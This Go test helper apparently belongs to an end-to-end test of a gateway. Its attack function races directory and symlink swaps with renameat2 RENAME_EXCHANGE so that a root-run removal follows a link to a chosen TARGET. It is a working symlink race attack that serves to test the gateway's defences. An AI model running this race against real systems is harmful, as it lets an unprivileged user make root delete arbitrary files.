package e2e

import (
	"fmt"
	"os"
	"strconv"

	"golang.org/x/sys/unix"
)

// attackMain is a process of the gateway's user that wants root to remove other
// files than it means to: attack DIR TARGET has names in DIR that are a folder
// one moment and a link to TARGET the next, for as long as it can.
func attackMain() {
	if err := attack(os.Args[1], os.Args[2]); err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
}

func attack(dir, target string) error {
	if err := os.Chdir(dir); err != nil {
		return err
	}
	for n := 0; ; n = (n + 1) % 20 {
		folder, link := "a"+strconv.Itoa(n), "b"+strconv.Itoa(n)
		// Either may be there, of either kind, or be removed by now.
		os.Mkdir(folder, 0o755)
		os.Symlink(target, link)
		for range 20 {
			unix.Renameat2(unix.AT_FDCWD, folder, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE)
		}
		if _, err := os.Stat(dir); os.IsNotExist(err) {
			return nil // it was removed
		}
	}
}
